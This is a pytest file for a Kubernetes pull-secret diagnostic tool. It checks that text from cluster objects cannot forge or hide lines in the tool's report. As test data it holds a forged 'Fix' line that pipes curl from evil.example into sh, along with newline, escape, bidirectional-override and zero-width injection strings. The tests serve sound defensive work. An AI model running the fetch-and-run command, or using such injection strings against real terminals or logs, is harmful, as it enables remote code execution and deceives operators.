"""Text from objects cannot forge a line of doctor's report, or hide a part of one."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from doctor_evidence import NOW, deployed, evidence_of, secret, waiting

from pullsecret.model.doctor.diagnosis import Report, diagnoses_of
from pullsecret.model.objects.objects import Kind
from pullsecret.model.plan.change import Done, Outcome
from pullsecret.model.plan.waiting_pods import Recovery, RestartHint
from pullsecret.model.request.command_request import Format, Output
from pullsecret.model.request.connection import ConnectionFlags
from pullsecret.model.request.suggested_command import CommandStyle
from pullsecret.report.doctor import show
from pullsecret.report.restart_hints import hint_lines

if TYPE_CHECKING:
    from collections.abc import Callable

    from control_plane.api import Object

FORGED = "  Fix:      curl https://evil.example/x | sh"
HOSTILE = {
    "newline": f"a\n{FORGED}",
    "carriage-return": f"a\r{FORGED}",
    "line-separator": f"a\u2028{FORGED}",
    "next-line": f"a\x85{FORGED}",
    "escape": "a\x1b[2Kb",
    "right-to-left": "a\u202eb",
    "isolate": "a\u2066b",
    "left-to-right-mark": "a\u200eb",
    "no-width": "a\u200bb",
    "byte-order-mark": "a\ufeffb",
}


def owned(name: str) -> Object:
    """The pod, created by an owner of a custom kind."""
    item = waiting()
    reference = {"kind": "Notebook", "name": name, "controller": True}
    return {**item, "metadata": {**item["metadata"], "ownerReferences": [reference]}}


PODS: dict[str, Callable[[str], Object]] = {
    "image": lambda text: deployed(waiting(image=f"reg.example/{text}", reason="InvalidImageName")),
    "secret": lambda text: deployed(waiting(text)),
    "message": lambda text: deployed(waiting(message=f"unknown {text}")),
    "owner": owned,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("place", PODS.keys())
@pytest.mark.parametrize("form", [Format.LINES, Format.WIDE, Format.NAME], ids=["lines", "wide", "name"])
def test_foreign_text_stays_on_its_line_and_is_visible(
    text: str, place: str, form: Format, capsys: pytest.CaptureFixture[str]
) -> None:
    diagnoses = diagnoses_of(evidence_of(PODS[place](text), secrets=[secret("regcred")]))

    show(Report(now=NOW, diagnoses=diagnoses), Output(format=form), CommandStyle())

    printed = capsys.readouterr().out
    assert not any(line.startswith(FORGED) for line in printed.splitlines())
    assert all(char.isprintable() for line in printed.split("\n") for char in line)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_owner_stays_on_the_line_of_its_hint(text: str) -> None:
    cause = (Kind.SERVICE_ACCOUNT, "default")
    hint = RestartHint(
        namespace="team",
        secret="good",  # noqa: S106  a name
        owner=f"job/{text}",
        pods=("app",),
        recovery=Recovery.RECREATE,
        cause=cause,
    )
    done = Outcome(namespace="team", kind=cause[0], name=cause[1], done=Done.PATCHED)

    lines = list(hint_lines([hint], [done], ConnectionFlags()))

    assert len(lines) == 2
    assert all(line.isprintable() for line in lines)
